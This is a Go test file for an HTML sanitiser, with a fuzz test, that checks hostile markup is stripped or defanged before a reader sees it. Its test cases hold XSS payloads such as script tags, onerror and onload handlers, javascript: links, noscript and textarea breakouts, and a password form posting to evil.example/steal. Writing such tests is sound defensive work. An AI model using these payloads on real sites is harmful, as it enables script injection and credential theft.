package review_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/breachnotify/breachnotify/notifier/review"
)

// TestSanitize feeds hostile HTML through the sanitiser: nothing that
// could link, load, run or style survives, and what the reader needs to
// judge the message (the text, where links and images pointed, defanged)
// does.
func TestSanitize(t *testing.T) {
	t.Parallel()
	s := review.NewSanitizer()
	for _, c := range []struct {
		name, in string
		want     []string
	}{
		{"script", `<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`, []string{"<p>hi</p>", "[a script, removed]"}},
		{"event handlers", `<div onclick="alert(1)" onmouseover=alert(2)>click</div><body onload=alert(3)>`, []string{"<div>click</div>"}},
		{"link", `<a href="https://evil.example/login?u=1">Log in</a>`, []string{"[link: hxxps://evil[.]example/login?u=1]", "Log in"}},
		{"javascript link", `<a href="javascript:alert(1)">x</a><a href="JaVaScRiPt&#58;alert(2)">y</a>`, []string{"[link: javascript[:]alert(1)]", "[link: JaVaScRiPt[:]alert(2)]"}},
		{"data link", `<a href="data:text/html;base64,PHNjcmlwdD4=">z</a>`, []string{"[link: data[:]text/html;base64,PHNjcmlwdD4=]"}},
		{"remote image", `<img src="http://evil.example/p.gif" alt="logo">`, []string{"[image “logo”, not loaded: hxxp://evil[.]example/p[.]gif]"}},
		{"inline image", `<img src="data:image/png;base64,AAAA">`, []string{"[image, not loaded: inline data]"}},
		{"style sheet", `<link rel="stylesheet" href="https://evil.example/s.css"><style>@import url(https://evil.example/i.css); p{background:url(x)}</style>`, []string{"[not loaded: hxxps://evil[.]example/s[.]css]", "[a style sheet, removed]"}},
		{"style attribute", `<p style="background:url('https://evil.example/bg')">text</p>`, []string{"[a background image, not loaded]", "<p>text</p>"}},
		{"background attribute", `<table background="https://evil.example/bg"><tr><td>x</td></tr></table>`, []string{"<td>x</td>"}},
		{"iframe", `<iframe src="https://evil.example/f"></iframe><frameset><frame src="https://evil.example/g"></frameset>`, []string{"[embedded content, not loaded: hxxps://evil[.]example/f]"}},
		{"form", `<form action="https://evil.example/steal"><input name=p type=password><button formaction="https://evil.example/b">Go</button></form>`, []string{"[a form, removed (it sent to hxxps://evil[.]example/steal)]"}},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">text`, []string{"text"}},
		{"base", `<base href="https://evil.example/"><a href="/x">x</a>`, []string{"[link: /x]"}},
		{"svg", `<svg onload=alert(1)><image href="https://evil.example/i.png"/><a xlink:href="javascript:alert(2)">s</a></svg>after`, []string{"[svg, removed]", "after"}},
		{"object embed", `<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">`, []string{"[embedded content, not loaded: hxxps://evil[.]example/o[.]swf]", "[embedded content, not loaded: hxxps://evil[.]example/e[.]swf]"}},
		{"text urls defanged", `<p>Visit https://evil.example/pay or mail boss@corp.example</p>`, []string{"hxxps://evil[.]example/pay", "boss@corp[.]example"}},
		{"escaped markup stays text", `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`, []string{"&lt;script&gt;alert(1)&lt;/script&gt;"}},
		{"unclosed and broken", `<p><b>bold<i>both</p><div<script>x</script>`, []string{"bold", "both"}},
		{"comments and conditional comments", `<!--[if IE]><script>alert(1)</script><![endif]--><p>ok</p>`, []string{"<p>ok</p>"}},
		{"noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, nil},
		{"textarea breakout", `<textarea></textarea><img src=x onerror=alert(1)></textarea>`, []string{"[image, not loaded: x]"}},
		{"image input", `<input type="image" src="https://evil.example/btn.png">`, []string{"[image, not loaded: hxxps://evil[.]example/btn[.]png]"}},
		{"table kept", `<table><tr><th colspan=2>h</th></tr><tr><td>a</td><td>b</td></tr></table>`, []string{"<th>h</th>", "<td>a</td>"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			out := s.Sanitize(c.in)
			for _, w := range c.want {
				if !strings.Contains(out, w) {
					t.Errorf("Sanitize(%q) = %q, lacks %q", c.in, out, w)
				}
			}
			if err := unsafeIn(out); err != "" {
				t.Errorf("Sanitize(%q) = %q: %s", c.in, out, err)
			}
		})
	}
}

// safeElements are the elements the sanitiser may leave; unsafeIn
// parses its output as a browser would and names the first element or
// attribute outside them, or text that still links.
var safeElements = map[string]bool{
	"html": true, "head": true, "body": true,
	"p": true, "br": true, "div": true, "span": true, "b": true, "i": true, "u": true, "s": true, "strong": true, "em": true,
	"small": true, "big": true, "sub": true, "sup": true, "mark": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true,
	"h6": true, "hr": true, "blockquote": true, "pre": true, "code": true, "tt": true, "q": true, "cite": true, "ul": true, "ol": true,
	"li": true, "dl": true, "dt": true, "dd": true, "table": true, "thead": true, "tbody": true, "tfoot": true, "tr": true, "td": true,
	"th": true, "caption": true, "center": true, "font": true, "address": true,
}

func unsafeIn(out string) string {
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		return err.Error()
	}
	var bad string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if bad != "" {
			return
		}
		switch n.Type {
		case html.ElementNode:
			if !safeElements[n.Data] {
				bad = "element " + n.Data
				return
			}
			if len(n.Attr) > 0 {
				bad = "attribute " + n.Attr[0].Key + " on " + n.Data
				return
			}
		case html.TextNode:
			low := strings.ToLower(n.Data)
			for _, linky := range []string{"http://", "https://", "javascript:", "www.evil.example", "evil.example"} {
				if strings.Contains(low, linky) {
					bad = "text that links: " + n.Data
					return
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return bad
}

// FuzzSanitize: whatever the input, the output parses to safe elements
// without attributes, and no text in it links.
func FuzzSanitize(f *testing.F) {
	for _, seed := range []string{
		`<a href="https://evil.example/">x</a>`, `<img src=//evil.example/i onerror=alert(1)>`, `<script>alert(1)</script>`,
		`<style>@import url(https://evil.example/)</style>`, `<svg><script>alert(1)</script></svg>`, `<math><mi xlink:href="javascript:alert(1)">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<<a>a href=http://evil.example>`, `<p>https://evil.example</p>`,
		"<p>http\u00ADs://evil.example</p>", `<table background=//evil.example><td>x`,
	} {
		f.Add(seed)
	}
	s := review.NewSanitizer()
	f.Fuzz(func(t *testing.T, in string) {
		out := s.Sanitize(in)
		doc, err := html.Parse(strings.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		var walk func(n *html.Node)
		walk = func(n *html.Node) {
			if n.Type == html.ElementNode && (!safeElements[n.Data] || len(n.Attr) > 0) {
				t.Fatalf("Sanitize(%q) = %q: element %s with %d attributes", in, out, n.Data, len(n.Attr))
			}
			if n.Type == html.TextNode {
				low := strings.ToLower(n.Data)
				for _, linky := range []string{"http://", "https://", "javascript:"} {
					if strings.Contains(low, linky) {
						t.Fatalf("Sanitize(%q) = %q: text that links: %q", in, out, n.Data)
					}
				}
			}
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				walk(c)
			}
		}
		walk(doc)
	})
}
